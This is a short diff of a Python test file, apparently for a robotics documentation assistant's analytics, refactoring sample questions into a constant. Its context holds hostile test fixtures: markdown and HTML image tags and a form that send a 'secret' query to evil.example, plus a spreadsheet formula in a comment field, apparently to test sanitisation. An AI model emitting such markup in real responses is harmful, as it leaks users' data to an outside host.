@@ -79,6 +79,10 @@ scores[1] = publisher.publish(String(data="<b>hello</b>"))
 
 Use `create_timer` for the rate.
 """
+ASKED = (
+    "What is a node?", "What is a topic?", "How do nodes talk?", "Which battery lasts longest?",
+    "Which battery lasts long?",
+)  # fmt: skip
 HOSTILE = """\
 Look ![x](https://evil.example/a.png?q=secret) and <img src="https://evil.example/b.png">
 <form action="https://evil.example/"><input name="q"><button>go</button></form>
@@ -171,8 +175,7 @@ class FakeInsights:
                 900.0 + n, 800, Gap.REFUSED if n > 2 else None,
                 rating="down" if n == 0 else None, comment="=SUM(1)" * (n == 0), rated_at=WHEN,
             )
-            for n, question in enumerate(("What is a node?", "What is a topic?", "How do nodes talk?",
-                                          "Which battery lasts longest?", "Which battery lasts long?"))
+            for n, question in enumerate(ASKED)
         ]  # fmt: skip
         day = DayCount("2026-03-01", 5, 2, 1, 4_000)
         window = Window((day,), tuple(asked), tuple(asked[3:]), tuple(asked[:1]), 0, 1)
